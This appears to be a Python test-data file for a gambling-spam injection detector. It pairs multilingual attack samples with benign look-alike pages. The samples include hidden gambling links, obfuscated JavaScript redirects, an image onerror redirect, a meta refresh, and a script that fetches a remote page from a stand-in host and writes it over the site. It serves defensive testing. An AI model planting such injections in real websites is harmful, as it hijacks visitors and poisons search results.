"""A sixth round for gambling_injection: pages for buyers of other countries, dots between letters, scripts put together
from pieces, and honest pages in those languages. Told as in gambling_later.
"""

from __future__ import annotations

import importlib.util
from pathlib import Path

_spec = importlib.util.spec_from_file_location("gambling_review", Path(__file__).with_name("gambling_review.py"))
assert _spec is not None and _spec.loader is not None
_review = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_review)
shop, PLAIN, wp = _review.shop, _review.PLAIN, _review.wp

ATTACKS = [
    ("Chinese title for Googlebot", PLAIN, shop(title="澳门新葡京娱乐城_老虎机在线_百家乐平台官网")),
    ("Chinese title for all", shop(title="澳门威尼斯人赌场网址|线上博彩平台|真人百家乐", body="<a href=https://vns8899.example/>官网</a>")),
    ("Chinese links that nobody sees", wp(foot="<div style='display:none'><a href='https://b365cn.example'>体育投注</a><a href='https://ya.example'>网上博彩</a><a href='https://ag.example'>真人娱乐</a></div>")),
    ("Thai title for Googlebot", PLAIN, shop(title="สล็อตเว็บตรง แตกง่าย ไม่ผ่านเอเย่นต์ บาคาร่า คาสิโนออนไลน์")),
    ("Thai links off the screen", wp(foot="<div style='position:absolute;left:-9999px'><a href='https://xyz.example/'>สล็อตเว็บตรง</a> <a href='https://abc.example/'>บาคาร่า</a></div>")),
    ("Vietnamese title for Googlebot", PLAIN, shop(title="Nhà cái uy tín - Cá cược bóng đá, nổ hũ đổi thưởng 2026")),
    ("Japanese title for Googlebot", PLAIN, shop(title="オンラインカジノ ボーナス スロット 2026")),
    ("Korean title for Googlebot", PLAIN, shop(title="온라인 카지노 사이트 추천 바카라 슬롯사이트")),
    ("dots in the middle, for all", shop(title="S·L·O·T G·A·C·O·R M·A·X·W·I·N")),
    ("bullets between letters", PLAIN, shop(title="S•l•o•t G•a•c•o•r")),
    ("soft hyphens", PLAIN, shop(title="S&shy;l&shy;o&shy;t G&shy;a&shy;c&shy;o&shy;r")),
    ("slot88x", PLAIN, shop(title="SLOT88X: Login Slot88x Terpercaya 2026")),
    ("slot88x hidden", wp(foot="<a href='https://slot88x.example' style='display:none'>slot88x</a>")),
    ("a template of names", wp(foot="<script>const a=`slot`,b=`gacor`;window.location.href=`https://${a}${b}.example/`;</script>")),
    ("a list of pieces", wp(foot="<script>var _0x=['slot','gacor','https://','.example'];location.href=_0x[2]+_0x[0x0]+_0x[1]+_0x[3]</script>")),
    ("a picture that fails", wp(foot="<img src=x onerror=\"location.href='https://slotgacor.example'\">")),
    ("a refresh for who has no scripts", wp(head="<noscript><meta http-equiv='refresh' content='0;url=https://situstoto4d.example/'></noscript>")),
    ("a clone put in place", wp(foot="<script>fetch('https://cdn.slotgacorx.example/lp.html').then(r=>r.text()).then(h=>{document.open();document.write(h)})</script>")),
    ("no height in points", wp(foot="<div style='overflow:auto;position:fixed;height:0pt;width:0pt'><a href='https://a.sch.id/slot-gacor/'>slot gacor</a></div>")),
    ("signs around the words", PLAIN, shop(title="🎰 SLOT❤️GACOR 🔥 Hari Ini 🎰")),
]
HONEST = [
    ("a Chinese shop", shop("义乌小商品批发 - 印尼代购", "<p>蜡染 手工 纪念品</p>")),
    ("a guide to Macau", shop("澳门旅游攻略", "<p>威尼斯人酒店 澳门 葡京酒店 住宿 赌场参观 百家乐表演</p>")),
    ("Chinese news", shop("印尼新闻", "<p>警方打击网上赌博,逮捕十二人</p>")),
    ("a Thai shop", shop("เสื้อผ้าบาติก อินโดนีเซีย", "<p>ขายส่ง เว็บตรง จากโรงงาน</p>")),
    ("a Japanese toaster", shop("オンラインストア バティック", "<p>スロット トースター ボーナス</p>")),
    ("a Vietnamese shop", shop("Cửa hàng cà phê", "<p>Cá tươi, cà phê, nhà hàng. Cuộc sống xanh, tài khoản mới.</p>")),
    ("initials with dots", shop("P·T· S·L·O Jaya", "<p>Kode barang A·B·C·D·E, slot memori</p>")),
    ("codes of goods", shop("TOTO Store", "<p>toto421j, slot12v, seri kc168b</p>")),
    ("a template of names", wp(foot="<script>const h=`toko`;location.href=`https://${h}.example/`;var a=['x','y'];a[0]</script>")),
    ("a picture that fails", wp(foot="<img src=x onerror=\"this.src='/img/kosong.png'\">")),
    ("a school's slots", shop("SMK Negeri 2 - Jadwal Slot Ujian", "<p>Jadwal slot ujian praktik. Slot hari ini: 3. Link daftar slot. Login siswa.</p>")),
    ("a broadcaster", shop("RTP TV - Radio Televisi Pendidikan", "<p>RTP live streaming, live RTP hari ini, jadwal RTP live.</p>")),
    ("board games", shop("Toko Board Game dan Kartu Poker", "<p>Kartu poker plastik, chip poker 500 pcs, set mahjong, meja roulette mainan, domino, Blackjack shoe.</p>")),
    ("who cleans sites", shop("Jasa Hapus Malware Judi Slot di WordPress", "<p>Website kena hack slot gacor? Kami bersihkan redirect judi online dan hapus link togel.</p>")),
    ("parking", shop("Parkir Bandara", "<p>Cek slot online, slot VIP, slot resmi, slot terpercaya. Deposit parkir via QRIS dan DANA.</p>")),
    ("slot cars", shop("Slot Car Tamiya", "<p>Slot car racing, slot racing online, Tamiya gacor, jackpot race.</p>")),
]
